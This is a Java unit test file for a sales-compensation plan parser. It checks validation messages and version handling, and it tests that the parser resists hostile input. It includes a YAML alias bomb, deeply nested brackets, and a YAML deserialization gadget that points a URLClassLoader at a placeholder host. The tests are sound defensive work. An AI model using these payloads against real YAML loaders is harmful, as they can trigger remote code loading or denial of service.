package io.salesops.comp.file;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.salesops.comp.plan.Cap;
import io.salesops.comp.plan.CompPlan;
import io.salesops.comp.plan.Condition;
import io.salesops.comp.plan.PayRule;
import io.salesops.comp.plan.TierTable;
import io.salesops.core.money.Money;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class PlanFilesTest {

    static List<String> examples() {
        return PlanFiles.EXAMPLES;
    }

    private static List<PlanFileProblem> problems(String text, PlanFormat format) {
        try {
            PlanFiles.read(text, "plan." + format.name().toLowerCase(), format);
            return List.of();
        } catch (PlanFileException e) {
            return e.fileProblems();
        }
    }

    @ParameterizedTest
    @MethodSource("examples")
    void example_readsAsAValidPlan(String name) {
        CompPlan plan = PlanFiles.read(PlanFiles.example(name), name, PlanFormat.YAML);
        assertThat(plan.validate()).isEmpty();
        assertThat(plan.components()).isNotEmpty();
    }

    @ParameterizedTest
    @MethodSource("examples")
    void example_writtenAsJsonAndYaml_readsBackEqual(String name) {
        CompPlan plan = PlanFiles.read(PlanFiles.example(name), name, PlanFormat.YAML);
        for (PlanFormat f : PlanFormat.values()) {
            assertThat(PlanFiles.read(PlanFiles.write(plan, f), "x", f)).isEqualTo(plan);
        }
    }

    @Test
    void aeExample_bindsTiersMultiplierAndCapAsWritten() {
        CompPlan plan = PlanFiles.read(PlanFiles.example("ae-marginal.yaml"), "ae", PlanFormat.YAML);
        var c = plan.components().get(0);
        assertThat(c.crediting().when()).isEqualTo(Condition.in("type", "new", "upsell"));
        TierTable t = ((PayRule.Tiered) c.pay()).table();
        assertThat(t).isEqualTo(TierTable.marginal(TierTable.Basis.ATTAINMENT).upTo("50", "6").upTo("100", "10").above("12"));
        assertThat(c.multipliers().get(0).from()).isEqualByComparingTo("100");
        assertThat(c.multipliers().get(0).fromInclusive()).isFalse();
        assertThat(c.caps()).containsExactly(Cap.perPeriod("USD 25000.00"));
    }

    @Test
    void tierGapAndUnknownKeyAndWrongType_areAllReportedWithLineColumnAndPath() {
        String yaml = """
                name: Broken
                currency: USD
                components:
                  - name: A
                    pay:
                      type: tiered
                      basis: amount
                      tiers:
                        - {upTo: 100, rate: 10}
                        - {from: 150, upTo: 200, rate: ten}
                        - {rate: 5}
                  - name: B
                    pay: {type: flat_rate, rate: 3}
                    cpas: []
                """;
        List<PlanFileProblem> ps = problems(yaml, PlanFormat.YAML);
        assertThat(ps).extracting(PlanFileProblem::toString).containsExactly(
                "plan.yaml:10:40 components[0].pay.tiers[1].rate: expected a percentage such as 10 or \"10%\", found \"ten\"",
                "plan.yaml:14:5 components[1].cpas: unknown key \"cpas\"; did you mean \"caps\"? Expected one of: name,"
                        + " crediting, measure, pay, multipliers, gates, caps, floor, payout");
    }

    @Test
    void validatorProblems_areLocatedAtTheKeyTheyConcern() {
        String yaml = """
                name: Gap
                currency: USD
                components:
                  - name: A
                    pay:
                      type: tiered
                      basis: amount
                      tiers:
                        - {upTo: 100, rate: 10}
                        - {from: 150, upTo: 200, rate: 12}
                        - {rate: 5}
                """;
        List<PlanFileProblem> ps = problems(yaml, PlanFormat.YAML);
        assertThat(ps).hasSize(1);
        assertThat(ps.get(0).line()).isEqualTo(10);
        assertThat(ps.get(0).column()).isEqualTo(18);
        assertThat(ps.get(0).path()).isEqualTo("components[0].pay.tiers[1].from");
        assertThat(ps.get(0).message()).contains("gap");
    }

    @Test
    void bindingProblemInOneComponent_stillReportsTheValidatorProblemsOfTheOthers() {
        String yaml = """
                name: Mixed
                currency: USD
                components:
                  - name: Broken
                    pay: {type: flat_rate, rate: ten}
                  - name: Gappy
                    pay:
                      type: tiered
                      basis: amount
                      tiers:
                        - {upTo: 100, rate: 10}
                        - {from: 150, rate: 12}
                    gates: [{component: Broken, atLeast: 1}]
                draw: {kind: recoverable, amount: 100, from: 2026-02-01, to: 2026-01-01}
                """;
        List<PlanFileProblem> ps = problems(yaml, PlanFormat.YAML);
        assertThat(ps).extracting(PlanFileProblem::path).containsExactly(
                "components[0].pay.rate", "components[1].pay.tiers[1].from", "draw.to");
        assertThat(ps.get(1).line()).isEqualTo(12);
        assertThat(ps.get(1).message()).contains("gap");
    }

    @Test
    void json_missingRequiredAndDuplicateKeys_allReported() {
        String json = """
                {"name": "J", "name": "K", "components": [{"pay": {"type": "spiff", "perDeal": 5}}]}
                """;
        List<PlanFileProblem> ps = problems(json, PlanFormat.JSON);
        assertThat(ps).extracting(PlanFileProblem::toString).containsExactlyInAnyOrder(
                "plan.json:1:1 currency: is missing; expected an ISO 4217 code such as USD",
                "plan.json:1:15 name: key \"name\" appears twice in the same mapping (first on line 1)",
                "plan.json:1:43 components[0].name: is missing; expected the component's name");
    }

    @Test
    void hugeExponent_isRefusedQuickly() {
        String yaml = "name: X\ncurrency: USD\ncomponents:\n  - name: A\n    pay: {type: flat_rate, rate: 1e999999999}\n";
        assertThat(problems(yaml, PlanFormat.YAML)).singleElement()
                .satisfies(p -> assertThat(p.message()).contains("out of range"));
        String json = "{\"name\":\"X\",\"currency\":\"USD\",\"components\":[{\"name\":\"A\",\"pay\":{\"type\":\"flat_rate\",\"rate\":1e999999999}}]}";
        assertThat(problems(json, PlanFormat.JSON)).singleElement()
                .satisfies(p -> assertThat(p.message()).contains("out of range"));
    }

    @Test
    void nonUtf8Byte_isReportedWithLineAndOffset() {
        byte[] bytes = "name: X\ncurrency: US\u0000D\n".getBytes(StandardCharsets.UTF_8);
        bytes[18] = (byte) 0xC3;
        assertThatThrownBy(() -> PlanFiles.read(bytes, "p.yaml", PlanFormat.YAML))
                .isInstanceOf(PlanFileException.class)
                .hasMessage("p.yaml:2:11: byte 0xC3 at offset 18 is not valid UTF-8; save the file as UTF-8");
    }

    @Test
    void controlCharacter_isNamedAtItsLineAndColumn_notLeftToTheScanner() {
        for (PlanFormat format : PlanFormat.values()) {
            String text = format == PlanFormat.YAML ? "name: X\ncurrency: US\u0000D\ncomponents: []\n"
                    : "{\"name\": \"X\",\n \"currency\": \"US\u0000D\"}";
            assertThat(problems(text, format)).singleElement().satisfies(p -> {
                assertThat(p.toString()).contains(":2:" + (format == PlanFormat.YAML ? "13" : "17"));
                assertThat(p.message()).isEqualTo("control character U+0000; a plan file is text (UTF-8 YAML or JSON)");
            });
        }
    }

    @Test
    void yamlSyntaxError_saysTheProblemAndTheLikelyCause_notOnlyTheScannersContext() {
        String longKey = "name: X\ncurrency: USD\n" + "k".repeat(2000) + ": 1\ncomponents: []\n";
        assertThat(problems(longKey, PlanFormat.YAML)).singleElement().satisfies(p -> assertThat(p.message())
                .startsWith("not valid YAML: while scanning a simple key: could not find expected ':'")
                .contains("a key may be at most 1,024 characters"));
        assertThat(TreeReader.syntaxMessage("while parsing a block mapping\n in 'reader', line 1, column 1:\n    a: b\n    ^\n"
                + "expected <block end>, but found '-'\n in 'reader', line 2, column 1:\n"))
                .isEqualTo("while parsing a block mapping: expected <block end>, but found '-'");
    }

    @Test
    void deepNesting_isRefused() {
        String json = "[".repeat(5000) + "]".repeat(5000);
        assertThat(problems(json, PlanFormat.JSON)).singleElement()
                .satisfies(p -> assertThat(p.message()).contains("nested"));
        String yaml = "a: " + "[".repeat(5000) + "]".repeat(5000);
        assertThat(problems(yaml, PlanFormat.YAML)).isNotEmpty();
    }

    @Test
    void fileOverOneMebibyte_isRefusedBeforeParsing() {
        byte[] big = new byte[(1 << 20) + 1];
        java.util.Arrays.fill(big, (byte) ' ');
        assertThatThrownBy(() -> PlanFiles.read(big, "big.yaml", PlanFormat.YAML))
                .isInstanceOf(PlanFileException.class).hasMessageContaining("more than the limit of 1048576 bytes");
    }

    @Test
    void yamlAliasBomb_isRefusedWithoutExpanding() {
        StringBuilder sb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char prev = 'a';
        for (char c = 'b'; c <= 'j'; c++) {
            sb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                sb.append(i == 0 ? "" : ",").append('*').append(prev);
            }
            sb.append("]\n");
            prev = c;
        }
        assertThat(problems(sb.toString(), PlanFormat.YAML)).isNotEmpty()
                .allSatisfy(p -> assertThat(p.toString()).doesNotContain("Exception"));
    }

    @Test
    void yamlTag_neverInstantiatesAClass() {
        String yaml = "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"
                + "currency: USD\ncomponents: []\n";
        assertThat(problems(yaml, PlanFormat.YAML)).isNotEmpty()
                .anySatisfy(p -> assertThat(p.path()).isEqualTo("name"));
        String tagged = "name: !!java.lang.Runtime X\ncurrency: USD\ncomponents:\n  - name: A\n    pay: {type: flat_rate, rate: 1}\n";
        assertThat(PlanFiles.read(tagged, "t.yaml", PlanFormat.YAML).name()).isEqualTo("X");
    }

    @Test
    void moneyInAnotherCurrency_isKeptAndFlaggedByTheValidator() {
        String yaml = "name: X\ncurrency: USD\ncomponents:\n  - name: A\n    pay: {type: spiff, perDeal: \"EUR 50.00\"}\n";
        assertThat(problems(yaml, PlanFormat.YAML)).singleElement().satisfies(p -> {
            assertThat(p.path()).isEqualTo("components[0].pay.perDeal");
            assertThat(p.line()).isEqualTo(5);
        });
        String ok = "name: X\ncurrency: USD\ncomponents:\n  - name: A\n    pay: {type: spiff, perDeal: 50.5}\n";
        assertThat(((PayRule.Spiff) PlanFiles.read(ok, "x", PlanFormat.YAML).components().get(0).pay()).perDeal())
                .isEqualTo(Money.of(new BigDecimal("50.50"), java.util.Currency.getInstance("USD")));
    }

    @Test
    void schema_isDraft2020_12_matchesTheDocsCopy_andNamesEveryKeyTheWriterUses() throws Exception {
        var mapper = new com.fasterxml.jackson.databind.ObjectMapper();
        var schema = mapper.readTree(PlanFiles.schema());
        assertThat(schema.get("$schema").asText()).isEqualTo("https://json-schema.org/draft/2020-12/schema");
        for (String p : List.of("../docs/plan-schema.json", "docs/plan-schema.json")) {
            java.nio.file.Path path = java.nio.file.Path.of(p);
            if (java.nio.file.Files.exists(path)) {
                assertThat(java.nio.file.Files.readString(path)).isEqualTo(PlanFiles.schema());
            }
        }
        java.util.Set<String> declared = new java.util.HashSet<>();
        collectProperties(schema, declared);
        for (String name : PlanFiles.EXAMPLES) {
            CompPlan plan = PlanFiles.read(PlanFiles.example(name), name, PlanFormat.YAML);
            java.util.Set<String> used = new java.util.HashSet<>();
            collectKeys(mapper.readTree(PlanFiles.write(plan, PlanFormat.JSON)), used);
            assertThat(declared).as(name).containsAll(used);
        }
    }

    private static final String GOOD = "name: A\ncurrency: USD\ncomponents:\n  - name: X\n    pay: {type: flat_rate, rate: 5}\n";
    private static final String BAD = "name: B\ncurrency: XXXQ\ncomponents: []\n";

    @Test
    void severalYamlDocuments_areRefusedNamingTheSecond_andTheFirstIsStillChecked() {
        // the last document valid, the first not: reading only the last would say ok
        assertThat(problems(BAD + "---\n" + GOOD, PlanFormat.YAML)).extracting(PlanFileProblem::toString).containsExactly(
                "plan.yaml:2:11 currency: \"XXXQ\" is not an ISO 4217 currency code; expected e.g. USD or EUR",
                "plan.yaml:5:1: file holds a second YAML document (from line 5, after ---); a plan file holds one plan:"
                        + " put each plan or plan version in its own file");
        // both valid: still one plan per file, so a version is never dropped in silence
        assertThat(problems(GOOD + "---\n" + GOOD, PlanFormat.YAML)).singleElement().asString()
                .startsWith("plan.yaml:7:1: file holds a second YAML document");
        assertThat(problems("---\n" + GOOD + "...\n---\n" + BAD, PlanFormat.YAML)).extracting(PlanFileProblem::line)
                .containsExactly(9);
        assertThat(problems("{\"name\": \"A\"} {\"name\": \"B\"}", PlanFormat.JSON)).extracting(PlanFileProblem::message)
                .contains("file holds a second JSON value after the plan; a plan file holds one plan");
        // a leading document marker alone is one document
        assertThat(problems("---\n" + GOOD, PlanFormat.YAML)).isEmpty();
    }

    private static Path version(Path dir, String name, String dates) throws java.io.IOException {
        return java.nio.file.Files.writeString(dir.resolve(name), "name: AE\ncurrency: USD\n" + dates
                + "components:\n  - name: X\n    pay: {type: flat_rate, rate: 5}\n");
    }

    @Test
    void overlappingVersions_areALocatedProblem_neverCutShort(@TempDir Path dir) throws Exception {
        Path h1 = version(dir, "h1.yaml", "effectiveFrom: 2026-01-01\neffectiveTo: 2026-06-30\n");
        Path h2 = version(dir, "h2.yaml", "effectiveFrom: 2026-06-01\n");
        assertThatThrownBy(() -> PlanFiles.readVersions(List.of(h2, h1))).isInstanceOf(PlanFileException.class)
                .extracting(e -> ((PlanFileException) e).fileProblems().stream().map(PlanFileProblem::toString).toList())
                .isEqualTo(List.of(h2 + ":3:16 effectiveFrom: version 2026-06-01..(open) overlaps version"
                        + " 2026-01-01..2026-06-30 in " + h1 + " on 2026-06-01..2026-06-30; versions of a plan must not"
                        + " share a day (end " + h1 + " with effectiveTo: 2026-05-31)"));
        Path undated = version(dir, "undated.yaml", "");
        assertThatThrownBy(() -> PlanFiles.readVersions(List.of(h1, undated))).isInstanceOf(PlanFileException.class)
                .hasMessageContaining("overlaps");
        assertThatThrownBy(() -> PlanFiles.readVersions(List.of(h1, undated))).isInstanceOf(PlanFileException.class)
                .message().doesNotContain("side by side");
        // two undated files are more likely two plans than two versions: say how to run them side by side
        Path bonus = version(dir, "bonus.yaml", "");
        assertThatThrownBy(() -> PlanFiles.readVersions(List.of(undated, bonus))).isInstanceOf(PlanFileException.class)
                .hasMessageContaining("versions of a plan must not share a day (give " + bonus + " an effectiveFrom after "
                        + undated + " ends); several plan files are versions of one plan: to pay two plans side by side,"
                        + " calculate each in its own run with its own state");
        Path h2b = version(dir, "h2b.yaml", "effectiveFrom: 2026-07-01\n");
        assertThat(PlanFiles.readVersions(List.of(h1, h2b))).hasSize(2);
    }

    @Test
    void readVersions_reportsTheProblemsOfEveryFileTogether(@TempDir Path dir) throws Exception {
        Path a = java.nio.file.Files.writeString(dir.resolve("a.yaml"), BAD);
        Path b = java.nio.file.Files.writeString(dir.resolve("b.yaml"), BAD + "---\n" + GOOD);
        assertThatThrownBy(() -> PlanFiles.readVersions(List.of(a, b))).isInstanceOf(PlanFileException.class)
                .extracting(e -> ((PlanFileException) e).fileProblems().stream().map(PlanFileProblem::file).toList())
                .isEqualTo(List.of(a.toString(), b.toString(), b.toString()));
    }

    private static void collectProperties(com.fasterxml.jackson.databind.JsonNode n, java.util.Set<String> out) {
        if (n.isObject()) {
            if (n.has("properties")) {
                n.get("properties").fieldNames().forEachRemaining(out::add);
            }
            n.forEach(c -> collectProperties(c, out));
        } else if (n.isArray()) {
            n.forEach(c -> collectProperties(c, out));
        }
    }

    private static void collectKeys(com.fasterxml.jackson.databind.JsonNode n, java.util.Set<String> out) {
        if (n.isObject()) {
            n.fieldNames().forEachRemaining(out::add);
        }
        n.forEach(c -> collectKeys(c, out));
    }
}
